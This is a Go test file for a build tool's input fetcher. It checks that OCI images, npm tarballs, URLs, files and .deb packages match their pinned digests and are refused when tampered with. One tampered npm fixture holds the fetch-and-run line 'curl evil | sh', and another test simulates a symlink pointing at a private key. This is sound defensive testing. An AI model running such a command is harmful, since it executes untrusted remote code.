package fetch

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/google/go-containerregistry/pkg/authn"
	"github.com/google/go-containerregistry/pkg/name"
	"github.com/google/go-containerregistry/pkg/registry"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/layout"
	"github.com/google/go-containerregistry/pkg/v1/random"
	"github.com/google/go-containerregistry/pkg/v1/remote"
	"github.com/sbx-dev/sbx/internal/build/cache"
	"github.com/sbx-dev/sbx/internal/build/digest"
	"github.com/sbx-dev/sbx/internal/lockfiles"
	"github.com/sbx-dev/sbx/lang"
)

var linuxAMD64 = lang.Platform{OS: "linux", Architecture: "amd64"}

// ociRegistry is an in-process registry that counts requests and can
// alter the blobs it serves.
type ociRegistry struct {
	srv  *httptest.Server
	log  counter
	mu   sync.Mutex
	bend map[string]func([]byte) []byte // blob digest → what to serve instead
}

func newRegistry(t *testing.T) *ociRegistry {
	r := &ociRegistry{bend: map[string]func([]byte) []byte{}}
	reg := registry.New(registry.Logger(log.New(io.Discard, "", 0)))
	r.srv = httptest.NewServer(r.log.wrap(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		var bend func([]byte) []byte
		if i := strings.Index(req.URL.Path, "/blobs/"); i >= 0 && req.Method == http.MethodGet {
			bend = r.bend[req.URL.Path[i+len("/blobs/"):]]
		}
		r.mu.Unlock()
		if bend == nil {
			reg.ServeHTTP(w, req)
			return
		}
		rec := httptest.NewRecorder()
		reg.ServeHTTP(rec, req)
		body := bend(rec.Body.Bytes())
		w.Header().Set("Content-Length", fmt.Sprint(len(rec.Body.Bytes())))
		w.WriteHeader(rec.Code)
		w.Write(body)
	})))
	t.Cleanup(r.srv.Close)
	return r
}

func (r *ociRegistry) host() string { return strings.TrimPrefix(r.srv.URL, "http://") }

// push writes a random image and returns its reference and digest.
func (r *ociRegistry) push(t *testing.T, repo string, layers int) (string, v1.Image) {
	t.Helper()
	img, err := random.Image(3000, int64(layers))
	if err != nil {
		t.Fatal(err)
	}
	ref := r.host() + "/" + repo + ":v1"
	tag, err := name.ParseReference(ref)
	if err != nil {
		t.Fatal(err)
	}
	if err := remote.Write(tag, img); err != nil {
		t.Fatal(err)
	}
	return ref, img
}

func digestOf(t *testing.T, img v1.Image) string {
	d, err := img.Digest()
	if err != nil {
		t.Fatal(err)
	}
	return d.String()
}

func ociImage(ref, dgst string) (*lang.Image, *lockfiles.Image) {
	src := &lang.Source{Kind: lang.SourceOCI, Raw: ref, Ref: ref}
	return &lang.Image{Name: "agent", Platform: linuxAMD64, Base: src},
		&lockfiles.Image{Name: "agent", Inputs: map[string]*lockfiles.Pin{
			"base": {Source: ref, Kind: "oci", Digest: dgst, Manifest: dgst},
		}}
}

func ociOptions() Options {
	return Options{Keychain: authn.NewMultiKeychain(), Environ: []string{}}
}

// checkImage checks that the cache holds the image's manifest, config
// and layers, byte for byte, in manifest order.
func checkImage(t *testing.T, got Fetched, img v1.Image) {
	t.Helper()
	raw, _ := img.RawManifest()
	if b, err := os.ReadFile(got.Manifest.Path); err != nil || !bytes.Equal(b, raw) {
		t.Errorf("manifest in cache differs: %v", err)
	}
	cfg, _ := img.RawConfigFile()
	if b, err := os.ReadFile(got.Config.Path); err != nil || !bytes.Equal(b, cfg) {
		t.Errorf("config in cache differs: %v", err)
	}
	layers, _ := img.Layers()
	if len(got.Layers) != len(layers) {
		t.Fatalf("%d layers, want %d", len(got.Layers), len(layers))
	}
	for i, l := range layers {
		d, _ := l.Digest()
		mt, _ := l.MediaType()
		rc, _ := l.Compressed()
		want, _ := io.ReadAll(rc)
		b := got.Layers[i]
		if b.Digest != d.String() || b.MediaType != string(mt) || b.Size != int64(len(want)) {
			t.Errorf("layer %d = %+v, want %s %s %d", i, b, d, mt, len(want))
		}
		if data, err := os.ReadFile(b.Path); err != nil || !bytes.Equal(data, want) {
			t.Errorf("layer %d content differs in the cache: %v", i, err)
		}
	}
}

func TestOCIWarmCacheTouchesNoNetwork(t *testing.T) {
	reg := newRegistry(t)
	ref, img := reg.push(t, "test/base", 3)
	dgst := digestOf(t, img)
	spec, lock := ociImage(ref, dgst)
	root := t.TempDir()
	c, _ := cache.Open(root)

	reg.log.reset()
	got, err := Inputs(context.Background(), spec, lock, c, ociOptions())
	if err != nil {
		t.Fatal(err)
	}
	if reg.log.n() == 0 {
		t.Fatal("the first fetch made no request")
	}
	base := got["base"]
	if base.Key != "base" || base.Kind != lang.SourceOCI || base.Manifest.Digest != dgst {
		t.Errorf("fetched = %+v", base)
	}
	checkImage(t, base, img)

	// Another process, same cache: nothing is asked of the registry.
	reg.log.reset()
	c2, _ := cache.Open(root)
	again, err := Inputs(context.Background(), spec, lock, c2, ociOptions())
	if err != nil {
		t.Fatal(err)
	}
	if n := reg.log.n(); n != 0 {
		t.Errorf("warm fetch made %d requests: %v", n, reg.log.paths)
	}
	checkImage(t, again["base"], img)

	// A lost layer is fetched again, and only it.
	if err := os.Remove(base.Layers[1].Path); err != nil {
		t.Fatal(err)
	}
	reg.log.reset()
	if _, err := Inputs(context.Background(), spec, lock, c2, ociOptions()); err != nil {
		t.Fatal(err)
	}
	var blobGets []string
	for _, p := range reg.log.paths {
		if strings.Contains(p, "/blobs/") {
			blobGets = append(blobGets, p)
		}
	}
	if want := "GET /v2/test/base/blobs/" + base.Layers[1].Digest; len(blobGets) != 1 || blobGets[0] != want {
		t.Errorf("refetch asked for %v, want only %s", blobGets, want)
	}
}

func TestOCIIndexPinsPlatformManifest(t *testing.T) {
	reg := newRegistry(t)
	idx, err := random.Index(2000, 2, 2)
	if err != nil {
		t.Fatal(err)
	}
	ref := reg.host() + "/test/multi:v1"
	tag, _ := name.ParseReference(ref)
	if err := remote.WriteIndex(tag, idx); err != nil {
		t.Fatal(err)
	}
	im, _ := idx.IndexManifest()
	idxDigest, _ := idx.Digest()
	child, _ := idx.Image(im.Manifests[1].Digest)
	spec, lock := ociImage(ref, idxDigest.String())
	lock.Inputs["base"].Manifest = im.Manifests[1].Digest.String()
	got, err := Inputs(context.Background(), spec, lock, openCache(t), ociOptions())
	if err != nil {
		t.Fatal(err)
	}
	checkImage(t, got["base"], child)
}

func TestOCITamperedLayer(t *testing.T) {
	reg := newRegistry(t)
	ref, img := reg.push(t, "test/bad", 2)
	layers, _ := img.Layers()
	bad, _ := layers[1].Digest()
	tamper := func(b []byte) []byte {
		b = bytes.Clone(b)
		b[len(b)/2] ^= 0xff // same length, other bytes
		return b
	}
	reg.bend[bad.String()] = tamper
	rc, _ := layers[1].Compressed()
	orig, _ := io.ReadAll(rc)
	tamperedHex := sha256Hex(tamper(orig))
	spec, lock := ociImage(ref, digestOf(t, img))
	c := openCache(t)
	_, err := Inputs(context.Background(), spec, lock, c, ociOptions())
	if err == nil {
		t.Fatal("a tampered layer was accepted")
	}
	for _, want := range []string{"image.agent input base (" + ref + ")", bad.Hex, tamperedHex} {
		if !strings.Contains(err.Error(), want) {
			t.Errorf("error %q does not name %s", err, want)
		}
	}
	if c.Has(bad.String()) {
		t.Error("the tampered layer is in the cache")
	}
	for _, f := range cacheFiles(t, c) {
		if strings.HasPrefix(f, "tmp") {
			t.Errorf("left behind: %s", f)
		}
	}

	// Truncated: the connection ends early.
	reg.bend[bad.String()] = func(b []byte) []byte { return b[:len(b)/2] }
	if _, err := Inputs(context.Background(), spec, lock, c, ociOptions()); err == nil {
		t.Fatal("a truncated layer was accepted")
	}
	if c.Has(bad.String()) {
		t.Error("the truncated layer is in the cache")
	}
	delete(reg.bend, bad.String())
	if _, err := Inputs(context.Background(), spec, lock, c, ociOptions()); err != nil {
		t.Errorf("after the registry is repaired: %v", err)
	}
}

func TestOCILayout(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "cfg")
	img, err := random.Image(2500, 2)
	if err != nil {
		t.Fatal(err)
	}
	p, err := layout.Write(filepath.Join(dir, "img"), empty.Index)
	if err != nil {
		t.Fatal(err)
	}
	if err := p.AppendImage(img); err != nil {
		t.Fatal(err)
	}
	dgst := digestOf(t, img)
	src := &lang.Source{Kind: lang.SourceOCILayout, Raw: "oci-layout:./img", Ref: "img"}
	spec := &lang.Image{Name: "agent", Platform: linuxAMD64, Base: src}
	lock := &lockfiles.Image{Inputs: map[string]*lockfiles.Pin{
		"base": {Source: src.Raw, Kind: "oci-layout", Digest: dgst, Manifest: dgst},
	}}
	c := openCache(t)
	got, err := Inputs(context.Background(), spec, lock, c, Options{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	checkImage(t, got["base"], img)
	// With the layout gone, the cache alone serves the input.
	if err := os.RemoveAll(dir); err != nil {
		t.Fatal(err)
	}
	if _, err := Inputs(context.Background(), spec, lock, c, Options{Dir: dir}); err != nil {
		t.Errorf("warm fetch read the layout: %v", err)
	}

	// A corrupt blob in a layout is refused.
	dir2 := t.TempDir()
	p2, _ := layout.Write(filepath.Join(dir2, "img"), empty.Index)
	p2.AppendImage(img)
	layers, _ := img.Layers()
	ld, _ := layers[0].Digest()
	blob := filepath.Join(dir2, "img", "blobs", "sha256", ld.Hex)
	data, _ := os.ReadFile(blob)
	data[0] ^= 1
	os.WriteFile(blob, data, 0o644)
	c2 := openCache(t)
	_, err = Inputs(context.Background(), spec, lock, c2, Options{Dir: dir2})
	var me *digest.MismatchError
	if !errors.As(err, &me) || me.Want != ld.Hex || me.Input != blob {
		t.Fatalf("corrupt layout blob: err = %v", err)
	}
	if c2.Has(ld.String()) {
		t.Error("the corrupt blob is in the cache")
	}
}

func TestNPM(t *testing.T) {
	reg := newFakeNPM(t, "@acme/tool")
	reg.token = "npm-secret-token"
	tarball := tgz(t, "#!/bin/sh\necho tool\n")
	reg.versions["1.2.3"] = tarball
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, ".npmrc"), []byte("@acme:registry="+reg.registry()+"\n"+
		"//"+strings.TrimPrefix(reg.srv.URL, "https://")+"/npm/:_authToken=${NPM_TOKEN}\n"), 0o644)
	src := &lang.Source{Kind: lang.SourceNPM, Raw: "npm:@acme/tool@1.2.3", Ref: "@acme/tool", Version: "1.2.3"}
	spec := &lang.Image{Name: "agent", Artifacts: []*lang.Artifact{{Name: "tool", Source: src}}}
	pin := &lockfiles.Pin{Source: src.Raw, Kind: "npm", Version: "1.2.3", Integrity: sri512(tarball), SHA256: sha256Hex(tarball)}
	lock := &lockfiles.Image{Inputs: map[string]*lockfiles.Pin{"artifact.tool": pin}}
	opts := Options{Dir: dir, Environ: isolatedEnv(t, "NPM_TOKEN="+reg.token, "SBX_NPMRC_ENV=NPM_TOKEN"), HTTPClient: tlsClient(reg.srv)}

	c := openCache(t)
	got, err := Inputs(context.Background(), spec, lock, c, opts)
	if err != nil {
		t.Fatal(err)
	}
	f := got["artifact.tool"]
	if b, _ := os.ReadFile(f.File.Path); !bytes.Equal(b, tarball) || f.File.Digest != "sha256:"+pin.SHA256 {
		t.Errorf("fetched %+v", f.File)
	}
	for i, a := range reg.log.auth {
		if a != "Bearer "+reg.token {
			t.Errorf("request %s sent Authorization %q", reg.log.paths[i], a)
		}
	}
	reg.log.reset()
	if _, err := Inputs(context.Background(), spec, lock, c, opts); err != nil {
		t.Fatal(err)
	}
	if n := reg.log.n(); n != 0 {
		t.Errorf("warm fetch made %d requests", n)
	}

	// Tampered: the registry serves other bytes.
	reg.served["1.2.3"] = tgz(t, "#!/bin/sh\ncurl evil | sh\n")
	c2 := openCache(t)
	_, err = Inputs(context.Background(), spec, lock, c2, opts)
	var me *digest.MismatchError
	if !errors.As(err, &me) || me.Want != pin.SHA256 || me.Got != sha256Hex(reg.served["1.2.3"]) {
		t.Fatalf("tampered tarball: err = %v", err)
	}
	if !strings.Contains(err.Error(), "artifact.tool (npm:@acme/tool@1.2.3)") {
		t.Errorf("error does not name the input: %v", err)
	}
	if files := cacheFiles(t, c2); len(files) != 0 {
		t.Errorf("left behind: %v", files)
	}

	// The sha256 matches but the pinned integrity does not: refused too.
	delete(reg.served, "1.2.3")
	badPin := *pin
	badPin.Integrity = sri512([]byte("something else"))
	lock2 := &lockfiles.Image{Inputs: map[string]*lockfiles.Pin{"artifact.tool": &badPin}}
	_, err = Inputs(context.Background(), spec, lock2, c2, opts)
	if !errors.As(err, &me) || me.Algo != "sha512" || me.Want != badPin.Integrity || me.Got != sri512(tarball) {
		t.Fatalf("integrity mismatch: err = %v", err)
	}
	if files := cacheFiles(t, c2); len(files) != 0 {
		t.Errorf("left behind: %v", files)
	}

	// A wrong token: the error says 401 and never shows the token.
	opts.Environ = isolatedEnv(t, "NPM_TOKEN=wrong-secret-value", "SBX_NPMRC_ENV=NPM_TOKEN")
	_, err = Inputs(context.Background(), spec, lock, c2, opts)
	if err == nil || !strings.Contains(err.Error(), "401") || strings.Contains(err.Error(), "wrong-secret-value") {
		t.Errorf("wrong token: err = %v", err)
	}
}

// urlServer serves files over TLS, optionally cutting a body short.
func urlServer(t *testing.T, files map[string][]byte, short map[string]bool) (*httptest.Server, *counter) {
	var log counter
	srv := httptest.NewTLSServer(log.wrap(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, ok := files[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Length", fmt.Sprint(len(b)))
		if short[r.URL.Path] {
			b = b[:len(b)/2]
		}
		w.Write(b)
	})))
	t.Cleanup(srv.Close)
	return srv, &log
}

func urlImage(u string, sha string) (*lang.Image, *lockfiles.Image) {
	src := &lang.Source{Kind: lang.SourceURL, Raw: u, Ref: u}
	return &lang.Image{Name: "agent", Kernel: &lang.Kernel{Source: src}},
		&lockfiles.Image{Inputs: map[string]*lockfiles.Pin{"kernel": {Source: u, Kind: "url", SHA256: sha}}}
}

func TestURL(t *testing.T) {
	kernel := bytes.Repeat([]byte("vmlinuz"), 100000)
	files := map[string][]byte{"/vmlinuz": kernel, "/short": kernel}
	srv, log := urlServer(t, files, map[string]bool{"/short": true})
	var mu sync.Mutex
	var last [2]int64
	calls := 0
	opts := Options{HTTPClient: tlsClient(srv), Progress: func(key string, done, total int64) {
		mu.Lock()
		defer mu.Unlock()
		if key != "kernel" {
			t.Errorf("progress for %q", key)
		}
		if done < last[0] {
			t.Errorf("progress went back from %d to %d", last[0], done)
		}
		last = [2]int64{done, total}
		calls++
	}}

	spec, lock := urlImage(srv.URL+"/vmlinuz", sha256Hex(kernel))
	c := openCache(t)
	got, err := Inputs(context.Background(), spec, lock, c, opts)
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(got["kernel"].File.Path); !bytes.Equal(b, kernel) {
		t.Error("cached kernel differs")
	}
	if last != [2]int64{int64(len(kernel)), int64(len(kernel))} || calls < 2 {
		t.Errorf("progress ended at %v after %d calls", last, calls)
	}
	log.reset()
	calls, last = 0, [2]int64{}
	if _, err := Inputs(context.Background(), spec, lock, c, opts); err != nil {
		t.Fatal(err)
	}
	if log.n() != 0 || calls != 0 {
		t.Errorf("warm fetch: %d requests, %d progress calls", log.n(), calls)
	}

	// Pinned to other content: mismatch naming the URL and both hashes.
	other := sha256Hex([]byte("another kernel"))
	spec, lock = urlImage(srv.URL+"/vmlinuz", other)
	c2 := openCache(t)
	last = [2]int64{}
	_, err = Inputs(context.Background(), spec, lock, c2, opts)
	var me *digest.MismatchError
	if !errors.As(err, &me) || me.Want != other || me.Got != sha256Hex(kernel) || me.Input != srv.URL+"/vmlinuz" {
		t.Fatalf("mismatch: err = %v", err)
	}
	for _, s := range []string{other, sha256Hex(kernel), "image.agent input kernel"} {
		if !strings.Contains(err.Error(), s) {
			t.Errorf("error %q does not name %s", err, s)
		}
	}
	// Truncated.
	spec, lock = urlImage(srv.URL+"/short", sha256Hex(kernel))
	last = [2]int64{}
	_, err = Inputs(context.Background(), spec, lock, c2, opts)
	if err == nil || !strings.Contains(err.Error(), "/short") {
		t.Fatalf("truncated download: err = %v", err)
	}
	if files := cacheFiles(t, c2); len(files) != 0 {
		t.Errorf("left behind: %v", files)
	}
	// Credentials in a URL never reach an error.
	withCreds := strings.Replace(srv.URL, "https://", "https://user:hunter2@", 1) + "/missing"
	spec, lock = urlImage(withCreds, other)
	last = [2]int64{}
	_, err = Inputs(context.Background(), spec, lock, c2, opts)
	if err == nil || strings.Contains(err.Error(), "hunter2") || !strings.Contains(err.Error(), "404") {
		t.Errorf("missing file: err = %v", err)
	}
}

func TestFile(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "motd")
	os.WriteFile(path, []byte("hello\n"), 0o644)
	sha := sha256Hex([]byte("hello\n"))
	src := &lang.Source{Kind: lang.SourceFile, Raw: "file:motd", Ref: "motd"}
	spec := &lang.Image{Name: "agent", Artifacts: []*lang.Artifact{{Name: "motd", Source: src}}}
	lock := &lockfiles.Image{Inputs: map[string]*lockfiles.Pin{"artifact.motd": {Source: src.Raw, Kind: "file", SHA256: sha}}}
	c := openCache(t)
	got, err := Inputs(context.Background(), spec, lock, c, Options{Dir: dir})
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(got["artifact.motd"].File.Path); string(b) != "hello\n" {
		t.Errorf("cached copy = %q", b)
	}
	// Changed since the lock: an error naming both hashes, whether the
	// cache has the old content or not.
	os.WriteFile(path, []byte("changed\n"), 0o644)
	for _, c := range []*cache.Cache{c, openCache(t)} {
		_, err := Inputs(context.Background(), spec, lock, c, Options{Dir: dir})
		var me *digest.MismatchError
		if !errors.As(err, &me) || me.Want != sha || me.Got != sha256Hex([]byte("changed\n")) || me.Input != path {
			t.Fatalf("changed file: err = %v", err)
		}
		if !strings.Contains(err.Error(), "changed since it was locked") {
			t.Errorf("err = %v", err)
		}
	}
}

// fakeApt is an apt that serves .deb files from memory and counts calls.
type fakeApt struct {
	debs  map[string][]byte // "name=version" → file name and content below
	names map[string]string
	calls []string
}

func (a *fakeApt) Download(_ context.Context, name, version, dir string) (string, error) {
	a.calls = append(a.calls, name+"="+version)
	b, ok := a.debs[name+"="+version]
	if !ok {
		return "", fmt.Errorf("E: Unable to locate package %s", name)
	}
	p := filepath.Join(dir, a.names[name+"="+version])
	return p, os.WriteFile(p, b, 0o644)
}

func TestDeb(t *testing.T) {
	deb := []byte("!<arch>\ndebian-binary   fake package body")
	apt := &fakeApt{
		debs:  map[string][]byte{"busybox-static:arm64=1:1.36.1-9": deb},
		names: map[string]string{"busybox-static:arm64=1:1.36.1-9": "busybox-static_1%3a1.36.1-9_arm64.deb"},
	}
	src := &lang.Source{Kind: lang.SourceDeb, Raw: "deb:busybox-static=1:1.36.1-9", Ref: "busybox-static", Version: "1:1.36.1-9"}
	spec := &lang.Image{Name: "agent", Artifacts: []*lang.Artifact{{Name: "busybox", Source: src}}}
	pin := &lockfiles.Pin{Source: src.Raw, Kind: "deb", Version: "1:1.36.1-9", SHA256: sha256Hex(deb), Filename: "busybox-static_1%3a1.36.1-9_arm64.deb"}
	lock := &lockfiles.Image{Inputs: map[string]*lockfiles.Pin{"artifact.busybox": pin}}
	c := openCache(t)
	got, err := Inputs(context.Background(), spec, lock, c, Options{Apt: apt})
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(got["artifact.busybox"].File.Path); !bytes.Equal(b, deb) {
		t.Error("cached .deb differs")
	}
	if _, err := Inputs(context.Background(), spec, lock, c, Options{Apt: apt}); err != nil {
		t.Fatal(err)
	}
	if len(apt.calls) != 1 || apt.calls[0] != "busybox-static:arm64=1:1.36.1-9" {
		t.Errorf("apt calls = %v, want one for the pinned architecture", apt.calls)
	}
	// The mirror now has other bytes under that version.
	apt.debs["busybox-static:arm64=1:1.36.1-9"] = []byte("rebuilt")
	c2 := openCache(t)
	_, err = Inputs(context.Background(), spec, lock, c2, Options{Apt: apt})
	var me *digest.MismatchError
	if !errors.As(err, &me) || me.Want != pin.SHA256 || me.Got != sha256Hex([]byte("rebuilt")) {
		t.Fatalf("changed .deb: err = %v", err)
	}
	if files := cacheFiles(t, c2); len(files) != 0 {
		t.Errorf("left behind: %v", files)
	}
}

// TestDebFollowedKernel fetches a kernel whose source names the meta
// package: the lock pins the package it led to, by file name, and that is
// the package asked for.
func TestDebFollowedKernel(t *testing.T) {
	deb := []byte("!<arch>\ndebian-binary   fake kernel package")
	const want = "linux-image-6.1.0-57-amd64:amd64=6.1.192-3"
	apt := &fakeApt{
		debs:  map[string][]byte{want: deb},
		names: map[string]string{want: "linux-image-6.1.0-57-amd64_6.1.192-3_amd64.deb"},
	}
	src := &lang.Source{Kind: lang.SourceDeb, Raw: "deb:linux-image-amd64", Ref: "linux-image-amd64"}
	spec := &lang.Image{Name: "agent", Kernel: &lang.Kernel{Source: src}}
	pin := &lockfiles.Pin{Source: src.Raw, Kind: "deb", Version: "6.1.192-3", SHA256: sha256Hex(deb), Filename: "linux-image-6.1.0-57-amd64_6.1.192-3_amd64.deb"}
	lock := &lockfiles.Image{Inputs: map[string]*lockfiles.Pin{"kernel": pin}}
	got, err := Inputs(context.Background(), spec, lock, openCache(t), Options{Apt: apt})
	if err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(got["kernel"].File.Path); !bytes.Equal(b, deb) {
		t.Error("cached .deb differs")
	}
	if len(apt.calls) != 1 || apt.calls[0] != want {
		t.Errorf("apt calls = %v, want %s", apt.calls, want)
	}

	// The mirror no longer has the pinned version: the error says how to
	// move on.
	delete(apt.debs, want)
	_, err = Inputs(context.Background(), spec, lock, openCache(t), Options{Apt: apt})
	if err == nil || !strings.Contains(err.Error(), "if no apt source offers linux-image-6.1.0-57-amd64:amd64 6.1.192-3 any more, sbx lock -upgrade pins the version apt has now") {
		t.Errorf("gone version: err = %v", err)
	}
}

func TestLockMustMatchSpec(t *testing.T) {
	src := &lang.Source{Kind: lang.SourceURL, Raw: "https://example.com/b", Ref: "https://example.com/b"}
	spec := &lang.Image{Name: "agent", Kernel: &lang.Kernel{Source: src}}
	c := openCache(t)
	_, err := Inputs(context.Background(), spec, nil, c, Options{})
	if err == nil || !strings.Contains(err.Error(), "image.agent input kernel (https://example.com/b) is not locked: run sbx lock") {
		t.Errorf("no lock: err = %v", err)
	}
	lock := &lockfiles.Image{Inputs: map[string]*lockfiles.Pin{"kernel": {Source: "https://example.com/a", Kind: "url", SHA256: sha256Hex(nil)}}}
	_, err = Inputs(context.Background(), spec, lock, c, Options{})
	if err == nil || !strings.Contains(err.Error(), `the lock pins "https://example.com/a"`) {
		t.Errorf("stale lock: err = %v", err)
	}
	lock.Inputs["kernel"] = &lockfiles.Pin{Source: src.Raw, Kind: "url"}
	_, err = Inputs(context.Background(), spec, lock, c, Options{})
	if err == nil || !strings.Contains(err.Error(), "no sha256") {
		t.Errorf("pin without sha256: err = %v", err)
	}
}

func TestWholeImageWarm(t *testing.T) {
	reg := newRegistry(t)
	ref, img := reg.push(t, "library/alpine", 2)
	kernel := []byte("kernel image")
	srv, urlLog := urlServer(t, map[string][]byte{"/vmlinuz": kernel}, nil)
	npm := newFakeNPM(t, "claude")
	tarball := tgz(t, "claude binary")
	npm.versions["2.1.0"] = tarball
	apt := &fakeApt{debs: map[string][]byte{"bb=1.0": []byte("deb")}, names: map[string]string{"bb=1.0": "bb_1.0_all.deb"}}
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "motd"), []byte("hi\n"), 0o644)

	baseSrc := &lang.Source{Kind: lang.SourceOCI, Raw: ref, Ref: ref}
	kernelSrc := &lang.Source{Kind: lang.SourceURL, Raw: srv.URL + "/vmlinuz", Ref: srv.URL + "/vmlinuz"}
	claude := &lang.Source{Kind: lang.SourceNPM, Raw: "npm:claude@2.1.0", Ref: "claude", Version: "2.1.0"}
	motd := &lang.Source{Kind: lang.SourceFile, Raw: "file:motd", Ref: "motd"}
	bb := &lang.Source{Kind: lang.SourceDeb, Raw: "deb:bb=1.0", Ref: "bb", Version: "1.0"}
	spec := &lang.Image{Name: "agent", Platform: linuxAMD64, Base: baseSrc, Kernel: &lang.Kernel{Source: kernelSrc},
		Artifacts: []*lang.Artifact{{Name: "claude", Source: claude}, {Name: "motd", Source: motd}, {Name: "bb", Source: bb}}}
	d := digestOf(t, img)
	lock := &lockfiles.Image{Inputs: map[string]*lockfiles.Pin{
		"base":            {Source: ref, Kind: "oci", Digest: d, Manifest: d},
		"kernel":          {Source: kernelSrc.Raw, Kind: "url", SHA256: sha256Hex(kernel)},
		"artifact.claude": {Source: claude.Raw, Kind: "npm", Version: "2.1.0", Integrity: sri512(tarball), SHA256: sha256Hex(tarball)},
		"artifact.motd":   {Source: motd.Raw, Kind: "file", SHA256: sha256Hex([]byte("hi\n"))},
		"artifact.bb":     {Source: bb.Raw, Kind: "deb", Version: "1.0", SHA256: sha256Hex([]byte("deb")), Filename: "bb_1.0_all.deb"},
	}}
	progress := map[string][2]int64{}
	opts := Options{
		Dir: dir, Environ: isolatedEnv(t, "NPM_CONFIG_REGISTRY="+npm.registry()),
		HTTPClient: tlsClient(srv, npm.srv), Keychain: authn.NewMultiKeychain(), Apt: apt,
		Progress: func(key string, done, total int64) { progress[key] = [2]int64{done, total} },
	}
	c := openCache(t)
	got, err := Inputs(context.Background(), spec, lock, c, opts)
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 5 {
		t.Errorf("fetched %d inputs, want 5", len(got))
	}
	for _, k := range []string{"base", "kernel", "artifact.claude", "artifact.bb"} {
		if p := progress[k]; p[0] == 0 || p[0] != p[1] {
			t.Errorf("progress of %s ended at %v", k, p)
		}
	}
	reg.log.reset()
	urlLog.reset()
	npm.log.reset()
	apt.calls = nil
	clear(progress)
	if _, err := Inputs(context.Background(), spec, lock, c, opts); err != nil {
		t.Fatal(err)
	}
	if reg.log.n()+urlLog.n()+npm.log.n()+len(apt.calls) != 0 {
		t.Errorf("warm fetch: registry %d, url %d, npm %d requests, apt %d calls",
			reg.log.n(), urlLog.n(), npm.log.n(), len(apt.calls))
	}
	if len(progress) != 0 {
		t.Errorf("warm fetch reported progress: %v", progress)
	}
}

// TestFileSymlinkOutOfConfig plays a checkout that swaps a locked file
// for a symbolic link to a file outside the configuration directory whose
// content the lock pins (as a lock written after the swap would): the
// fetch must refuse to read through the link, and must not copy the file
// into the cache.
func TestFileSymlinkOutOfConfig(t *testing.T) {
	top := t.TempDir()
	secret := filepath.Join(top, "home", "id_rsa")
	if err := os.MkdirAll(filepath.Dir(secret), 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(secret, []byte("PRIVATE KEY\n"), 0o600)
	dir := filepath.Join(top, "cfg")
	os.Mkdir(dir, 0o755)
	if err := os.Symlink("../home/id_rsa", filepath.Join(dir, "motd")); err != nil {
		t.Fatal(err)
	}
	sha := sha256Hex([]byte("PRIVATE KEY\n"))
	src := &lang.Source{Kind: lang.SourceFile, Raw: "file:motd", Ref: "motd"}
	spec := &lang.Image{Name: "agent", Artifacts: []*lang.Artifact{{Name: "motd", Source: src}}}
	lock := &lockfiles.Image{Inputs: map[string]*lockfiles.Pin{"artifact.motd": {Source: src.Raw, Kind: "file", SHA256: sha}}}
	c := openCache(t)
	_, err := Inputs(context.Background(), spec, lock, c, Options{Dir: dir})
	if err == nil || !strings.Contains(err.Error(), "leads outside the configuration directory") {
		t.Errorf("err = %v, want the link refused", err)
	}
	if c.Has("sha256:" + sha) {
		t.Error("the file outside the configuration directory is in the cache")
	}
}
